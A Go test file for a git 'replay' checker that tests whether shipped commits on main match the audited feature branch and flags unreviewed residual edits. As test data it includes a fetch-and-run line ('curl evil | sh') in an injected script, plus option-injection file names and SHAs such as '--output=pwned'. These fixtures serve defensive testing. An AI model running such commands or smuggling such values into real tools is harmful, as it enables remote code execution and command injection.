package replay

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/aepgate/aepgate/protocol/coverage"
	"github.com/aepgate/aepgate/protocol/readbackrules"
)

// work is a repository with a working tree in which a test builds
// histories; the replay reads a bare clone of it, as the App would.
type work struct {
	t   *testing.T
	dir string
}

func newWork(t *testing.T) *work {
	t.Helper()
	w := &work{t: t, dir: t.TempDir()}
	w.git("init", "-q", "-b", "main")
	return w
}

func (w *work) git(args ...string) string {
	w.t.Helper()
	cmd := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false", "-C", w.dir}, args...)...)
	cmd.Env = Env(os.Environ())
	out, err := cmd.CombinedOutput()
	if err != nil && !strings.HasPrefix(args[0], "merge") {
		w.t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// write writes files (path → content; "" deletes) and commits them.
func (w *work) commit(msg string, files map[string]string) string {
	w.t.Helper()
	for p, c := range files {
		full := filepath.Join(w.dir, p)
		if c == "" {
			w.git("rm", "-q", "--", p)
			continue
		}
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			w.t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(c), 0o644); err != nil {
			w.t.Fatal(err)
		}
		w.git("add", "--", p)
	}
	w.git("commit", "-q", "--allow-empty", "-m", msg)
	return w.git("rev-parse", "HEAD")
}

// bare clones the work repository bare and opens it for replay.
func (w *work) bare() *Repo {
	w.t.Helper()
	dir := filepath.Join(w.t.TempDir(), "clone.git")
	w.git("clone", "-q", "--bare", w.dir, dir)
	r, err := Open(context.Background(), dir)
	if err != nil {
		w.t.Fatal(err)
	}
	return r
}

const lines = "one\ntwo\nthree\nfour\nfive\nsix\nseven\n"

// scenario is one way a reviewed change reaches main.
type scenario struct {
	in   Input
	repo *Repo
}

// build makes the common start: a base on main and a feature branch off
// it whose head is audited, then lets ship move main and ship it.
func build(t *testing.T, feature map[string]string, ship func(w *work, head string) (shipped, onto string)) scenario {
	t.Helper()
	w := newWork(t)
	base := w.commit("base", map[string]string{"f.txt": lines, "old.txt": "a\nb\nc\nd\n", "g.txt": "g\n"})
	w.git("checkout", "-q", "-b", "feature")
	head := w.commit("feature", feature)
	w.git("checkout", "-q", "main")
	shipped, onto := ship(w, head)
	return scenario{in: Input{AuditedHead: head, AuditBase: base, Shipped: shipped, Onto: onto}, repo: w.bare()}
}

// squash squash-merges the feature onto main and commits, after resolve
// (which may write files) when the merge conflicted.
func squash(w *work, head string, extra map[string]string) string {
	w.git("merge", "--squash", head)
	return w.commit("squash", extra)
}

func feature() map[string]string {
	return map[string]string{"f.txt": strings.Replace(lines, "two", "TWO", 1), "new.txt": "new\n"}
}

// scenarioNamed builds the named scenario.
func scenarioNamed(t *testing.T, name string) scenario {
	t.Helper()
	f, ok := scenarios[name]
	if !ok {
		t.Fatalf("no scenario %q", name)
	}
	return f(t)
}

var scenarios = map[string]func(t *testing.T) scenario{
	"identity": func(t *testing.T) scenario {
		return build(t, feature(), func(w *work, head string) (string, string) {
			return squash(w, head, nil), ""
		})
	},
	"moved base, clean replay": func(t *testing.T) scenario {
		return build(t, feature(), func(w *work, head string) (string, string) {
			w.commit("main moves", map[string]string{"f.txt": strings.Replace(lines, "six", "SIX", 1)})
			return squash(w, head, nil), ""
		})
	},
	"conflict resolved with a line no audit saw": func(t *testing.T) scenario {
		return build(t, feature(), func(w *work, head string) (string, string) {
			w.commit("main moves", map[string]string{"f.txt": strings.Replace(lines, "two", "deux", 1)})
			w.git("merge", "--squash", head)
			return w.commit("resolve", map[string]string{"f.txt": strings.Replace(lines, "two", "TWO deux\nunreviewed()", 1), "new.txt": "new\n"}), ""
		})
	},
	"squash carrying an unreviewed edit": func(t *testing.T) scenario {
		return build(t, feature(), func(w *work, head string) (string, string) {
			w.commit("main moves", map[string]string{"g.txt": "g2\n"})
			return squash(w, head, map[string]string{"extra.sh": "curl evil | sh\n"}), ""
		})
	},
	"merge commit with extra edits": func(t *testing.T) scenario {
		return build(t, feature(), func(w *work, head string) (string, string) {
			w.commit("main moves", map[string]string{"f.txt": strings.Replace(lines, "six", "SIX", 1)})
			w.git("merge", "--no-ff", "--no-commit", head)
			return w.commit("merge with an edit", map[string]string{"g.txt": "edited in the merge\n"}), ""
		})
	},
	"clean merge commit": func(t *testing.T) scenario {
		return build(t, feature(), func(w *work, head string) (string, string) {
			w.commit("main moves", map[string]string{"f.txt": strings.Replace(lines, "six", "SIX", 1)})
			w.git("merge", "--no-ff", "-q", "-m", "merge", head)
			return w.git("rev-parse", "HEAD"), ""
		})
	},
	"rename onto an edited base": func(t *testing.T) scenario {
		return build(t, map[string]string{"old.txt": "", "renamed.txt": "a\nb\nc\nd\n"}, func(w *work, head string) (string, string) {
			w.commit("main edits the renamed file", map[string]string{"old.txt": "a\nb\nc\nD\n"})
			return squash(w, head, nil), ""
		})
	},
	"modify/delete conflict": func(t *testing.T) scenario {
		return build(t, map[string]string{"g.txt": ""}, func(w *work, head string) (string, string) {
			w.commit("main edits what the change deletes", map[string]string{"g.txt": "g2\n", "f.txt": strings.Replace(lines, "six", "SIX", 1)})
			w.git("merge", "--squash", head)
			return w.commit("resolve", map[string]string{"g.txt": ""}), ""
		})
	},
	"rebase of two commits": buildRebase,
}

// buildRebase audits a two-commit branch, then rebases both commits onto a
// moved main: the shipped commit's parent is the first rebased commit, so
// Onto names main before them.
func buildRebase(t *testing.T) scenario {
	w := newWork(t)
	base := w.commit("base", map[string]string{"f.txt": lines, "g.txt": "g\n"})
	w.git("checkout", "-q", "-b", "feature")
	w.commit("one", map[string]string{"a.txt": "a\n"})
	head := w.commit("two", map[string]string{"b.txt": "b\n"})
	w.git("checkout", "-q", "main")
	onto := w.commit("main moves", map[string]string{"g.txt": "g2\n"})
	w.git("cherry-pick", head+"~1", head)
	shipped := w.git("rev-parse", "HEAD")
	return scenario{in: Input{AuditedHead: head, AuditBase: base, Shipped: shipped, Onto: onto}, repo: w.bare()}
}

// strict is today's readback rule on the observation: readback.Decide
// with its runs satisfied, so only the head rule decides.
func strict(o coverage.Observation, r coverage.Result) bool {
	run := func(id int64, sha string) readbackrules.Run {
		return readbackrules.Run{ID: id, Workflow: "ci", HeadSHA: sha, Branch: "main", Status: "completed", Conclusion: "success", Attempt: 1}
	}
	res := readbackrules.Decide(readbackrules.Input{
		RequiredWorkflows: []string{"ci"}, DefaultBranch: "main",
		PRRuns: []readbackrules.Run{run(1, o.AuditedHead)}, MainRuns: []readbackrules.Run{run(2, o.Shipped)},
		Merge: coverage.StrictMerge(o, r), Rule: readbackrules.RuleStrict,
	})
	return res.HeadUnchanged
}

// TestCoverage replays each scenario and compares the replay rule with
// the strict rule on the same commits: the negative control. The strict
// rule refuses a moved base the replay accepts; both refuse a merge
// commit's unreviewed edit, which the strict rule accepted before it
// compared a merge commit's tree (readbackrules'
// TestNegativeControlTreeCompared).
func TestCoverage(t *testing.T) {
	tests := []struct {
		name     string
		class    coverage.Class
		residual []string
		strict   bool
	}{
		{"identity", coverage.Identity, nil, true},
		{"moved base, clean replay", coverage.Replay, nil, false},
		{"conflict resolved with a line no audit saw", coverage.Residual, []string{"f.txt"}, false},
		{"squash carrying an unreviewed edit", coverage.Residual, []string{"extra.sh"}, false},
		{"merge commit with extra edits", coverage.Residual, []string{"g.txt"}, false},
		{"clean merge commit", coverage.Replay, nil, true},
		{"rename onto an edited base", coverage.Replay, nil, false},
		{"modify/delete conflict", coverage.Unverifiable, nil, false},
		{"rebase of two commits", coverage.Replay, nil, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := scenarioNamed(t, tt.name)
			o, got, err := s.repo.Coverage(context.Background(), s.in)
			if err != nil {
				t.Fatal(err)
			}
			if got.Class != tt.class {
				t.Fatalf("class = %s (%s), want %s; observation %+v", got.Class, got.Reason, tt.class, o)
			}
			if diff := cmp.Diff(tt.residual, got.ResidualPaths(), cmpEmpty); diff != "" {
				t.Errorf("residual paths (-want +got):\n%s", diff)
			}
			if s := strict(o, got); s != tt.strict {
				t.Errorf("strict rule accepts = %v, want %v", s, tt.strict)
			}
		})
	}
}

var cmpEmpty = cmp.Comparer(func(a, b []string) bool { return len(a) == 0 && len(b) == 0 || cmp.Equal(a, b) })

// TestResidualHunks shows the residual's hunk: the line no audit saw.
func TestResidualHunks(t *testing.T) {
	s := scenarioNamed(t, "conflict resolved with a line no audit saw")
	_, got, err := s.repo.Coverage(context.Background(), s.in)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Residual) != 1 || !strings.Contains(got.Residual[0].Hunks, "+unreviewed()") || !strings.HasPrefix(got.Residual[0].Hunks, "@@ ") {
		t.Fatalf("residual = %+v, want f.txt's hunk adding unreviewed()", got.Residual)
	}
}

// TestUnverifiable: what the repository cannot answer, or names that are
// not full SHAs (never handed to git), classify as unverifiable.
func TestUnverifiable(t *testing.T) {
	s := scenarioNamed(t, "moved base, clean replay")
	absent := strings.Repeat("ab", 20)
	tests := []struct {
		name string
		edit func(in *Input)
		want string
	}{
		{"shipped commit not fetched", func(in *Input) { in.Shipped = absent }, "has no commit " + absent},
		{"option as a commit", func(in *Input) { in.Shipped = "--output=/tmp/x" }, "not a full 40-hex"},
		{"abbreviated SHA", func(in *Input) { in.AuditedHead = in.AuditedHead[:12] }, "not a full 40-hex"},
		{"revision expression", func(in *Input) { in.Onto = "HEAD~1" }, "not a full 40-hex"},
		{"another audit base", func(in *Input) { in.AuditBase = in.Shipped }, "not the audit's base"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := s.in
			tt.edit(&in)
			_, got, err := s.repo.Coverage(context.Background(), in)
			if err != nil {
				t.Fatal(err)
			}
			if got.Class != coverage.Unverifiable || !strings.Contains(got.Reason, tt.want) {
				t.Fatalf("got %s %q, want unverifiable with %q", got.Class, got.Reason, tt.want)
			}
		})
	}
}

// TestCanceled: an ended context is an error (try again), never a class.
func TestCanceled(t *testing.T) {
	s := scenarioNamed(t, "identity")
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, _, err := s.repo.Coverage(ctx, s.in); err == nil {
		t.Fatal("Coverage under a canceled context: no error")
	}
}

// TestEnv: git runs without credentials or the caller's git settings.
func TestEnv(t *testing.T) {
	got := Env([]string{"PATH=/bin", "GITHUB_TOKEN=secret", "GH_TOKEN=x", "GIT_CONFIG_GLOBAL=/home/u/.gitconfig", "GIT_DIR=/elsewhere", "LC_ALL=de_DE"})
	want := []string{"PATH=/bin", "GIT_CONFIG_KEY_0=http.https://github.com/.extraheader", "GIT_CONFIG_VALUE_0=", "GIT_CONFIG_COUNT=1", "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=" + os.DevNull, "GIT_TERMINAL_PROMPT=0", "LC_ALL=C"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Env (-want +got):\n%s", diff)
	}
}

// TestResidualBounded: a residual's hunks are cut at coverage.MaxHunkBytes
// and say so.
func TestResidualBounded(t *testing.T) {
	big := strings.Repeat("unreviewed line\n", 2000)
	s := build(t, feature(), func(w *work, head string) (string, string) {
		w.commit("main moves", map[string]string{"g.txt": "g2\n"})
		return squash(w, head, map[string]string{"big.txt": big}), ""
	})
	_, got, err := s.repo.Coverage(context.Background(), s.in)
	if err != nil {
		t.Fatal(err)
	}
	if got.Class != coverage.Residual || len(got.Residual) != 1 {
		t.Fatalf("got %+v, want one residual path", got)
	}
	d := got.Residual[0]
	if d.Path != "big.txt" || d.Status != "A" || !d.Truncated || len(d.Hunks) > coverage.MaxHunkBytes || !strings.HasPrefix(d.Hunks, "@@ ") {
		t.Fatalf("residual = %s %s truncated=%v, %d bytes; want big.txt A truncated within %d bytes", d.Path, d.Status, d.Truncated, len(d.Hunks), coverage.MaxHunkBytes)
	}
}

// TestResidualOptionPath: a path that reads like an option is a path
// (after "--", literal pathspecs), listed with its hunk.
func TestResidualOptionPath(t *testing.T) {
	s := build(t, feature(), func(w *work, head string) (string, string) {
		w.commit("main moves", map[string]string{"g.txt": "g2\n"})
		return squash(w, head, map[string]string{"--output=pwned": "x\n", "*": "star\n"}), ""
	})
	_, got, err := s.repo.Coverage(context.Background(), s.in)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"*", "--output=pwned"}, got.ResidualPaths()); diff != "" {
		t.Fatalf("residual (-want +got):\n%s", diff)
	}
	for _, d := range got.Residual {
		if !strings.Contains(d.Hunks, "+x") && !strings.Contains(d.Hunks, "+star") || strings.Contains(d.Hunks, "+star") == strings.Contains(d.Hunks, "+x") {
			t.Errorf("%s: hunks %q, want its own content only", d.Path, d.Hunks)
		}
	}
}

// TestInferred: with no audit base (the App's case) git's one merge base
// is the audit base, and a rebase of several commits is replayed onto the
// commit RebaseOnto finds, as if the push's "before" were known.
func TestInferred(t *testing.T) {
	ctx := context.Background()
	for _, name := range []string{"identity", "moved base, clean replay", "squash carrying an unreviewed edit", "merge commit with extra edits", "rebase of two commits"} {
		t.Run(name, func(t *testing.T) {
			s := scenarioNamed(t, name)
			want, err := s.repo.Observe(ctx, s.in)
			if err != nil {
				t.Fatal(err)
			}
			onto, err := s.repo.RebaseOnto(ctx, s.in.AuditedHead, s.in.Shipped)
			if err != nil {
				t.Fatal(err)
			}
			if name != "rebase of two commits" {
				onto = ""
			}
			if onto != s.in.Onto {
				t.Fatalf("RebaseOnto = %q, want %q", onto, s.in.Onto)
			}
			got, err := s.repo.Observe(ctx, Input{AuditedHead: s.in.AuditedHead, Shipped: s.in.Shipped, Onto: onto})
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("inferred audit base (-given +inferred):\n%s", diff)
			}
		})
	}
}
